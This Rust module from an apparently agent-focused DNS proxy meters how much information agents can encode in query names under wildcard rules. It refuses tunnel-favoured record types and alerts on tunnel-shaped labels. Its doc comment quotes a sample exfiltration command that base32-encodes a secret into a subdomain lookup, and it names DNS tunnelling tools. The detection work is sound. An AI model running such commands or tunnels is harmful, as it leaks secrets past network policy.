//! Exfiltration through allowed wildcards: what a wildcard rule answers, and
//! how much information an agent may push out in the names it asks about.
//!
//! A denied name never leaves, but under `*.cdn.test` every new name goes
//! upstream, so whoever runs the DNS of an allowed zone can read data encoded
//! in labels (iodine, dnscat2, `curl $(base32 secret).x.cdn.test`). Two
//! fences, both only for wildcard rules (exact names carry no chosen data):
//!
//! - **Query types.** A wildcard answers A, AAAA, CNAME, HTTPS and SVCB
//!   unless its entry lists `qtypes:`; the rest (TXT, NULL, ANY, private
//!   types: the tunnels' favourites) is REFUSED, alerted and audited.
//! - **A budget** per agent and registrable domain: each question that
//!   would go upstream is charged an estimate of the bits it can carry (a
//!   new name's labels; for a name already sent, which of the domain's
//!   names it is; its type; the question itself); the charge drains at a
//!   steady rate. Past the soft limit: an alert and an audit mark. Past the
//!   hard limit: new names under that domain are REFUSED for a cooldown,
//!   and re-asked ones wait for the drain. Answers under a budgeted
//!   wildcard are held at least `min_ttl_secs` (resolve.rs), so re-asks
//!   within it are cache hits: they never leave and cost nothing.
//! - **A shape signal**: new names with a run of more than 128 random-looking
//!   bits (tunnel labels) alert from the 8th under a domain.
//!
//! Memory per agent is fixed ([`AGENT_BYTES`]): a two-generation Bloom
//! filter of seen names and labels, a count-min sketch of leaky buckets
//! (conservative update, so a domain's estimate never falls below its true
//! charge: collisions can only deny early, never let data through), and a
//! small table of domains in cooldown. The design follows the
//! information-based heavy hitters idea (ibHH, arXiv 2307.02614): count
//! information, not queries, in constant space. See docs/exfiltration.md.

use std::collections::HashMap;
use std::hash::{BuildHasher, Hash, Hasher};
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use hickory_proto::rr::{Name, RecordType};

pub use crate::policy::exfil_limits::{
    DEFAULT_COOLDOWN_SECS, DEFAULT_DRAIN_BYTES_PER_MIN, DEFAULT_HARD_BYTES, DEFAULT_SOFT_BYTES,
    Limits,
};
use crate::policy::name::QueryKey;
pub use crate::policy::qtypes::{is_wildcard, qtype_allowed};
use crate::policy::{PatternFacts, PolicySet};
use crate::state::PerAgent;
use crate::sync::lock;

mod bits;
mod sketch;

pub use bits::{label_bits, run_bits};
pub use sketch::AGENT_BYTES;
use sketch::AgentBudget;

/// What the budget says about one question.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Verdict {
    /// Send it, with an audit mark when the domain is past its soft limit
    /// or shows names shaped like a tunnel's.
    Pass(Option<Mark>),
    /// Refuse it: the domain is past its hard limit, or in cooldown.
    Deny,
}

/// The audit mark: why a record is flagged (`"exfil":"..."`).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Mark {
    /// Allowed, but its domain is past the soft limit.
    Soft,
    /// Refused: the domain is past the hard limit or in cooldown.
    Budget,
    /// Refused: the query type is not answered under this wildcard.
    Qtype,
    /// Allowed, under the soft limit, but its domain shows names shaped
    /// like a tunnel's.
    Tunnel,
}

impl Mark {
    pub fn as_str(self) -> &'static str {
        match self {
            Mark::Soft => "soft",
            Mark::Budget => "budget",
            Mark::Qtype => "qtype",
            Mark::Tunnel => "tunnel",
        }
    }
}

/// Charged for every question that goes upstream, on top of what its name
/// carries: the fact and time of a query carry information too (see
/// docs/exfiltration.md for why 8 bits cover the timing at the drain rate),
/// and it makes floods of tiny names, or of re-asked ones, count.
const PER_QUERY_BITS: f32 = 8.0;
/// A run of a label (between hyphens) estimated to carry more than this
/// looks like encoded data: identifiers (UUIDs, 32-hex ids) carry at most
/// 128 random bits, and the corpus of legitimate names tops out there.
const SHAPE_RUN_BITS: f32 = 128.0;
/// Tunnel-shaped new names under one domain, per Bloom generation, before
/// the alert: one odd legitimate name raises nothing.
const SHAPE_NAMES: u32 = 8;
/// Least charged for a label already seen under the same domain. A seen
/// label still carries a choice among the labels seen there: it is charged
/// log2 of how many distinct labels the domain has shown (see `distinct`),
/// at least this, at most what the label would cost new.
const SEEN_LABEL_BITS: f32 = 2.0;
/// At most one qtype/cooldown denial alert per agent this often.
const ALERT_EVERY: Duration = Duration::from_secs(5);

/// Every agent's budget.
pub struct Budgets {
    agents: Mutex<HashMap<Arc<str>, Box<AgentBudget>>>,
    /// Random keys: an attacker cannot aim names at one sketch cell.
    hasher: std::collections::hash_map::RandomState,
    epoch: Instant,
    /// How a question is charged: [`Current`], unless a test swaps in a double.
    charging: Box<dyn Charging>,
}

/// The choices that set what a question costs. Production charges with
/// [`Current`]; the tests keep a weaker charging as a double, to show that
/// the attacks they replay get through without these choices.
pub trait Charging: Send + Sync {
    /// The domain whose budget a name is charged to.
    fn domain<'k>(&self, key: &'k str, facts: PatternFacts) -> &'k str;
    /// Whether a name already sent goes free.
    fn repeats_free(&self) -> bool;
    /// What the choice of the question's type among `types` carries.
    fn type_bits(&self, types: usize) -> f32;
    /// A label as it is hashed to tell seen from new.
    fn label_key<'l>(&self, label: &'l [u8]) -> std::borrow::Cow<'l, [u8]>;
    /// What a label already seen under the domain costs: `choice` is how
    /// many distinct labels the domain has shown, `full` its cost as new.
    fn seen_label_bits(&self, choice: f32, full: f32) -> f32;
    /// Whether tunnel-shaped names are counted and marked.
    fn tracks_shapes(&self) -> bool;
}

/// The charging in force (docs/exfiltration.md).
pub struct Current;

impl Charging for Current {
    fn domain<'k>(&self, key: &'k str, facts: PatternFacts) -> &'k str {
        budget_domain(key, facts)
    }
    fn repeats_free(&self) -> bool {
        false
    }
    fn type_bits(&self, types: usize) -> f32 {
        (types.max(1) as f32).log2()
    }
    // As sent: a recased label is a new label.
    fn label_key<'l>(&self, label: &'l [u8]) -> std::borrow::Cow<'l, [u8]> {
        std::borrow::Cow::Borrowed(label)
    }
    fn seen_label_bits(&self, choice: f32, full: f32) -> f32 {
        choice.log2().max(SEEN_LABEL_BITS).min(full)
    }
    fn tracks_shapes(&self) -> bool {
        true
    }
}

impl Default for Budgets {
    fn default() -> Self {
        Budgets {
            agents: Mutex::default(),
            hasher: std::collections::hash_map::RandomState::new(),
            epoch: Instant::now(),
            charging: Box::new(Current),
        }
    }
}

impl Budgets {
    #[cfg(test)]
    fn with_charging(charging: Box<dyn Charging>) -> Self {
        Budgets {
            charging,
            ..Budgets::default()
        }
    }

    /// Number of agents tracked (each costs [`AGENT_BYTES`]).
    pub fn agents(&self) -> usize {
        lock(&self.agents).len()
    }

    /// Drops the state of agents `keep` does not name.
    pub fn retain(&self, keep: impl Fn(&str) -> bool) {
        let mut agents = lock(&self.agents);
        agents.retain(|agent, _| keep(agent));
    }

    fn now_ds(&self) -> u32 {
        // +1 keeps 0 free as the "empty slot" time.
        u32::try_from(self.epoch.elapsed().as_millis() / 100).unwrap_or(u32::MAX - 1) + 1
    }

    fn hash(&self, parts: &[&[u8]]) -> u64 {
        let mut h = self.hasher.build_hasher();
        for p in parts {
            p.hash(&mut h);
        }
        h.finish()
    }

    /// Charges a name about to go upstream under a wildcard rule whose
    /// pattern has `facts`. `key` is its canonical form, computed once for the
    /// question; the labels are read from `name` as sent, without respelling it.
    ///
    /// Case: the name goes upstream as the client wrote it (the reply must
    /// echo the client's question, and 0x20 case randomisation relies on
    /// it), so its case reaches whoever runs the zone. Rather than rewrite
    /// names on the shared resolve/cache path, labels are hashed and charged
    /// as sent: a recased label is a new label, and its alphabet counts
    /// upper case (log2 53 instead of log2 27 bits a letter).
    pub fn charge(
        &self,
        agent: &Arc<str>,
        limits: &Limits,
        name: &Name,
        key: &QueryKey,
        facts: PatternFacts,
        types: usize,
    ) -> Verdict {
        if !limits.enabled {
            return Verdict::Pass(None);
        }
        let key = key.as_str();
        let domain = self.charging.domain(key, facts);
        // Labels as sent, below the budget's domain: the key has one label
        // for each of the name's, so counting the domain's is enough.
        let domain_labels = if domain.is_empty() {
            0
        } else {
            domain.bytes().filter(|&b| b == b'.').count() + 1
        };
        let head = name.iter().len().saturating_sub(domain_labels);
        // The name as sent, for alerts only.
        let sent = || {
            let ascii = name.to_ascii();
            ascii.strip_suffix('.').unwrap_or(&ascii).to_string()
        };
        let now = self.now_ds();
        let name_h = {
            let mut h = self.hasher.build_hasher();
            b"n".hash(&mut h);
            for label in name.iter() {
                label.hash(&mut h);
            }
            h.finish()
        };
        let domain_h = self.hash(&[b"d", domain.as_bytes()]).max(1);
        // Keys of the domain's name count and tunnel-shape count in the
        // distinct-label sketch.
        let names_h = self.hash(&[b"names", domain.as_bytes()]);
        let shape_h = self.hash(&[b"shape", domain.as_bytes()]);
        let mut agents = lock(&self.agents);
        let budget = agents.entry(agent.clone()).or_insert_with(AgentBudget::new);
        budget.rotate(now);
        let seen = budget.seen(name_h);
        if seen && self.charging.repeats_free() {
            return Verdict::Pass(None);
        }
        let blocked = budget.blocked_until(domain_h, now);
        if let (Some(until), false) = (blocked, seen) {
            if let Some(suppressed) = budget.alerted.admit() {
                tracing::warn!(
                    agent = %agent, domain, qname = %sent(), suppressed,
                    cooldown_left_s = (until - now) / 10,
                    "[!] EXFILTRATION BUDGET: new name refused, domain in cooldown"
                );
            }
            return Verdict::Deny;
        }
        // Every question that leaves tells the zone's operator that it was
        // asked, when, and which of the rule's types it asks for.
        let mut cost = PER_QUERY_BITS + self.charging.type_bits(types);
        let mut label_hashes = [0u64; 128];
        let mut labels = 0;
        let mut fresh = 0u16;
        let mut full_bits = 0.0;
        let mut shaped = false;
        // What a seen label can carry: a choice among the domain's labels.
        let choice = budget.distinct(domain_h).max(1) as f32;
        let mut new_cost = 0.0;
        for label in name.iter().take(head).filter(|l| !l.is_empty()) {
            let full = label_bits(label);
            full_bits += full;
            shaped |= run_bits(label) > SHAPE_RUN_BITS;
            if seen {
                continue;
            }
            let hashed = self.charging.label_key(label);
            let h = self.hash(&[b"l", domain.as_bytes(), &hashed]);
            new_cost += if !budget.seen(h) {
                fresh = fresh.saturating_add(1);
                full
            } else {
                self.charging.seen_label_bits(choice, full)
            };
            if labels < label_hashes.len() {
                label_hashes[labels] = h;
                labels += 1;
            }
        }
        cost += if seen && budget.last == name_h {
            // The same name as the agent's last question (AAAA after A):
            // one choice, "again", whose cost the query's type and time cover.
            0.0
        } else if seen {
            // A name already sent carries which of the domain's names it is:
            // at most log2 of how many the domain has shown, and never more
            // than it would carry new.
            (budget.distinct(names_h).max(1) as f32)
                .log2()
                .min(full_bits)
        } else {
            new_cost
        };
        let drain = limits.drain_bits_per_sec / 10.0;
        let before = budget.estimate(domain_h, now, drain);
        if before + cost > limits.hard_bits {
            match blocked {
                Some(until) => {
                    if let Some(suppressed) = budget.alerted.admit() {
                        tracing::warn!(
                            agent = %agent, domain, qname = %sent(), suppressed,
                            cooldown_left_s = (until - now) / 10,
                            "[!] EXFILTRATION BUDGET: re-asked name refused, domain in cooldown"
                        );
                    }
                }
                None => {
                    budget.fill(domain_h, now, drain, limits.hard_bits);
                    let until = now.saturating_add(
                        u32::try_from(limits.cooldown.as_millis() / 100).unwrap_or(u32::MAX / 2),
                    );
                    budget.block(domain_h, until);
                    tracing::error!(
                        agent = %agent, domain, qname = %sent(),
                        estimated_bytes = (before / 8.0) as u64,
                        hard_bytes = (limits.hard_bits / 8.0) as u64,
                        cooldown_s = limits.cooldown.as_secs(),
                        "[!] EXFILTRATION BUDGET EXCEEDED: new names under this domain refused for the cooldown"
                    );
                }
            }
            return Verdict::Deny;
        }
        let after = budget.add(domain_h, now, drain, cost);
        budget.last = name_h;
        if !seen {
            budget.count_distinct(domain_h, fresh);
            budget.count_distinct(names_h, 1);
            budget.insert(name_h);
            for h in &label_hashes[..labels] {
                budget.insert(*h);
            }
        }
        if before < limits.soft_bits && after >= limits.soft_bits {
            tracing::warn!(
                agent = %agent, domain, qname = %sent(),
                estimated_bytes = (after / 8.0) as u64,
                soft_bytes = (limits.soft_bits / 8.0) as u64,
                "[!] EXFILTRATION BUDGET: soft limit passed (new names under this domain carry much data)"
            );
        }
        let mut tunnel = false;
        if shaped && self.charging.tracks_shapes() {
            let shapes = budget.distinct(shape_h);
            if !seen {
                budget.count_distinct(shape_h, 1);
                if shapes < SHAPE_NAMES && budget.distinct(shape_h) >= SHAPE_NAMES {
                    tracing::warn!(
                        agent = %agent, domain, qname = %sent(), names = SHAPE_NAMES,
                        estimated_bytes = (after / 8.0) as u64,
                        "[!] EXFILTRATION: names shaped like a DNS tunnel (labels with more than 128 random-looking bits) under this domain"
                    );
                }
            }
            tunnel = budget.distinct(shape_h) >= SHAPE_NAMES;
        }
        Verdict::Pass(if after >= limits.soft_bits {
            Some(Mark::Soft)
        } else {
            tunnel.then_some(Mark::Tunnel)
        })
    }

    /// Alerts (rate-limited per agent) that a wildcard refused a query type.
    pub fn qtype_denied(
        &self,
        agent: &Arc<str>,
        client: SocketAddr,
        name: &Name,
        qtype: RecordType,
        rule: &str,
    ) {
        let mut agents = lock(&self.agents);
        let budget = agents.entry(agent.clone()).or_insert_with(AgentBudget::new);
        if let Some(suppressed) = budget.alerted.admit() {
            tracing::warn!(
                agent = %agent, %client, qname = %name, %qtype, rule,
                suppressed,
                "[!] QUERY TYPE REFUSED under a wildcard (list it in the entry's qtypes to allow it)"
            );
        }
    }
}

/// The registrable domain a canonical name is charged to (the name itself
/// when it is a public suffix or has no parent).
fn registrable(key: &str) -> &str {
    crate::policy::registrable_domain(key).unwrap_or(key)
}

/// The domain whose budget a name under a rule with pattern `facts` is
/// charged to: its registrable domain, unless the pattern's fixed suffix
/// (the labels after its last wildcard) is shorter: then the pattern's
/// chosen labels reach into the registrable domain itself, and each
/// `<data>.github.io` under `*.github.io` would get a fresh budget. Such
/// names are pooled under the longer of the fixed suffix and the name's
/// public suffix: `github.io` for `*.github.io`; `s3.amazonaws.com` for a
/// bucket under `*.amazonaws.com`. Not coarser than the public suffix, so
/// that a broad wildcard over a provider (whose DNS the provider runs)
/// keeps one budget per service and region as the public suffix list draws
/// them, rather than one for all of them (which the legitimate corpus
/// overruns). Only the registrable domain is worked out per name; the
/// pattern's part was at load time ([`PatternFacts::of`]).
pub fn budget_domain(key: &str, facts: PatternFacts) -> &str {
    let domain = registrable(key);
    if !facts.wildcard {
        return domain;
    }
    let fixed = usize::from(facts.fixed_labels);
    if fixed >= label_count(domain) {
        return domain;
    }
    let public = domain.split_once('.').map_or("", |(_, suffix)| suffix);
    last_labels(key, fixed.max(label_count(public)))
}

/// How many labels `name` has; none for `""`.
fn label_count(name: &str) -> usize {
    if name.is_empty() {
        0
    } else {
        name.split('.').count()
    }
}

/// The last `n` labels of `key`; `""` for none.
fn last_labels(key: &str, n: usize) -> &str {
    if n == 0 {
        return "";
    }
    let cut = key
        .rmatch_indices('.')
        .nth(n - 1)
        .map_or(0, |(at, _)| at + 1);
    &key[cut..]
}

/// The budgets of agents a reload removed go with them.
impl PerAgent for Budgets {
    fn agents_changed(&self, files: &PolicySet) {
        self.retain(|agent| files.by_agent(agent).is_some());
    }
}

#[cfg(test)]
mod tests;
